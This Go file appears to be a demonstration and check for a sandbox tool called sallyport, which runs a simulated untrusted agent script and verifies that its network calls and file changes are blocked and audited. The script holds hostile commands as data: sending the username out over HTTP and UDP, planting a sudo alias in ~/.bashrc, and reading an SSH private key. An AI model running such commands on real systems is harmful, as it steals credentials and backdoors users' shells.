package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
)

// script is what an untrusted program might do.
var script = fmt.Sprintf(`set -x
curl -sS http://api.test/
curl -sS http://telemetry.test/?user=$USER
curl -sS http://%s/
echo "$USER was here" >/dev/udp/%s/%d
echo 'alias sudo="sudo evil"' >>~/.bashrc
cat ~/.ssh/id_ed25519
`, literal, literal, udpPort)

const (
	bashrc = "# the user's own\n"
	key    = "-- not a real key --\n"
)

// show is one performance: a user's home, for as long as it takes.
type show struct {
	bin      string
	net      *internet
	dir      string // of everything that it makes
	home     string
	uid, gid int
}

func newShow(dir, bin string, n *internet) (*show, error) {
	s := &show{net: n, dir: dir, home: filepath.Join(dir, "home"), uid: os.Getuid(), gid: os.Getgid()}
	if s.uid == 0 {
		s.uid, s.gid = ordinaryUser(os.Getenv)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		return nil, err
	}
	var err error
	if s.bin, err = s.reachable(bin); err != nil {
		return nil, err
	}
	return s, s.furnish()
}

// ordinaryUser is who called sudo, else nobody.
func ordinaryUser(getenv func(string) string) (uid, gid int) {
	uid, errU := strconv.Atoi(getenv("SUDO_UID"))
	gid, errG := strconv.Atoi(getenv("SUDO_GID"))
	if errU != nil || errG != nil || uid <= 0 || gid <= 0 {
		return 65534, 65534
	}
	return uid, gid
}

// reachable gives a path under which the user can execute the binary: root's
// own directories are closed to him.
func (s *show) reachable(bin string) (string, error) {
	bin, err := filepath.Abs(bin)
	if err != nil {
		return "", err
	}
	open := s.uid == os.Getuid()
	for p := bin; !open; p = filepath.Dir(p) {
		fi, err := os.Stat(p)
		if err != nil {
			return "", err
		}
		if fi.Mode().Perm()&0o001 == 0 {
			break
		}
		open = p == "/"
	}
	if open {
		return bin, nil
	}
	b, err := os.ReadFile(bin)
	if err != nil {
		return "", err
	}
	copied := filepath.Join(s.dir, "sallyport")
	return copied, os.WriteFile(copied, b, 0o755)
}

// furnish makes the home: what to protect, and the script.
func (s *show) furnish() error {
	for _, f := range []struct{ path, text string }{
		{"home", ""}, {"home/.ssh", ""}, {"home/work", ""},
		{"home/.bashrc", bashrc}, {"home/.ssh/id_ed25519", key}, {"home/work/agent.sh", script},
	} {
		path := filepath.Join(s.dir, f.path)
		var err error
		if f.text == "" {
			err = os.Mkdir(path, 0o755)
		} else {
			err = os.WriteFile(path, []byte(f.text), 0o600)
		}
		if err == nil {
			err = os.Chown(path, s.uid, s.gid)
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// command is sallyport as the user would start it.
func (s *show) command(out io.Writer, args ...string) *exec.Cmd {
	cmd := exec.Command(s.bin, args...)
	cmd.Dir = filepath.Join(s.home, "work")
	cmd.Env = []string{"HOME=" + s.home, "USER=alice", "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"}
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if os.Getuid() == 0 {
		cmd.SysProcAttr.Credential = &syscall.Credential{Uid: uint32(s.uid), Gid: uint32(s.gid)}
	}
	return cmd
}

// play shows the session and checks it.
func (s *show) play() error {
	fmt.Print("Nothing here needs the internet: api.test and telemetry.test are servers of this\n" +
		"program in a network namespace of its own. They count what reaches them.\n")
	if os.Getuid() == 0 {
		fmt.Printf("You are root, and no command runs as root unasked: here it runs as user %d.\n", s.uid)
	}
	fmt.Print("\n$ cat agent.sh\n", script)
	fmt.Print("\n$ sallyport run --allow-domain api.test -- bash agent.sh\n")
	err := s.command(os.Stdout, "run", "--allow-domain", "api.test", "--", "bash", "agent.sh").Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		return err
	}
	if exit == nil || exit.ExitCode() != 1 { // the script's last command is one that fails
		return fmt.Errorf("the script ended with %v, want the failure of its last command", err)
	}
	fmt.Print("\n$ sallyport audit query --all\n")
	if err := s.command(os.Stdout, "audit", "query", "--all").Run(); err != nil {
		return fmt.Errorf("audit query: %w", err)
	}
	return s.check()
}

// expected is what the record must hold, as "verdict operation object".
var expected = []string{
	"allow net.connect api.test:80",
	"deny net.connect telemetry.test:80",
	fmt.Sprintf("deny net.connect %s:80", literal),
	fmt.Sprintf("deny net.udp %s:%d", literal, udpPort),
}

// check holds the servers' counts, the files and the record against what was
// promised.
func (s *show) check() error {
	fmt.Printf("\nThe servers saw: %d request to api.test, %d to telemetry.test, %d to %s, %d UDP packets,\n"+
		"%d questions for telemetry.test's address.\n", s.net.saw("http api.test"), s.net.saw("http telemetry.test"),
		s.net.saw("http "+literal), literal, s.net.saw(fmt.Sprintf("udp %d", udpPort)), s.net.saw("dns telemetry.test"))
	got, err := s.record()
	if err != nil {
		return err
	}
	for _, want := range expected {
		if got[want] != 1 {
			return fmt.Errorf("%q is in the record %d times, want once", want, got[want])
		}
	}
	if len(got) != len(expected) {
		return fmt.Errorf("the record holds more than it should: %v", got)
	}
	for what, want := range map[string]int{"http api.test": 1, "http telemetry.test": 0, "http " + literal: 0,
		fmt.Sprintf("udp %d", udpPort): 0, "dns telemetry.test": 0} {
		if n := s.net.saw(what); n != want {
			return fmt.Errorf("%s: reached %d times, want %d", what, n, want)
		}
	}
	b, err := os.ReadFile(filepath.Join(s.home, ".bashrc"))
	if err != nil || string(b) != bashrc {
		return fmt.Errorf(".bashrc was changed: %q, %v", b, err)
	}
	fmt.Println("~/.bashrc is as it was. One attempt was allowed, five were refused, three of them recorded:\n" +
		"file denials are not recorded without privilege. Everything made for this is gone again.")
	return nil
}

// record counts the events by "verdict operation object".
func (s *show) record() (map[string]int, error) {
	var out bytes.Buffer
	if err := s.command(&out, "audit", "query", "--all", "-o", "json").Run(); err != nil {
		return nil, fmt.Errorf("audit query: %w", err)
	}
	got := map[string]int{}
	for line := range strings.Lines(out.String()) {
		var e struct {
			Verdict, Operation string
			Object             struct {
				Host, Addr string
				Port       int
			}
			Count int
		}
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			return nil, fmt.Errorf("audit query printed %q: %w", line, err)
		}
		object := e.Object.Host
		if object == "" {
			object = e.Object.Addr
		}
		got[fmt.Sprintf("%s %s %s:%d", e.Verdict, e.Operation, object, e.Object.Port)] += e.Count
	}
	return got, nil
}
